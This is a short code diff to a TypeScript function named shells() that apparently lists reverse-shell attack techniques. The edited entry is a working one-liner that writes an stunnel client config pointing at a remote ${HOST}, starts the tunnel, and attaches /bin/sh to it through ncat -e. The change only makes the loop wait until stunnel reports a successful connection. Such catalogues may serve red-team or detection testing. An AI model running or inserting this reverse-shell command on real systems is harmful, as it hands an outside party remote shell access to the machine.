@@ -245,7 +245,7 @@ export function shells(): Attack[] {
     sealed(
       'stunnel',
       PORTS.stunnel,
-      `printf 'foreground = yes\\npid =\\nclient = yes\\n[s]\\naccept = 127.0.0.1:9999\\nconnect = ${HOST}:${PORTS.stunnel}\\n' > s.conf; stunnel4 s.conf 2>/dev/null & for i in 1 2 3 4 5 6 7 8 9; do sleep 0.2; ncat 127.0.0.1 9999 -e /bin/sh && break; done`,
+      `printf 'foreground = yes\\npid =\\nclient = yes\\n[s]\\naccept = 127.0.0.1:9999\\nconnect = ${HOST}:${PORTS.stunnel}\\n' > s.conf; stunnel4 s.conf 2>s.log & for i in $(seq 150); do sleep 0.2; grep -q successful s.log && ncat 127.0.0.1 9999 -e /bin/sh && break; done`,
       ['stunnel4', 'ncat'],
       '127.0.0.1',
     ),
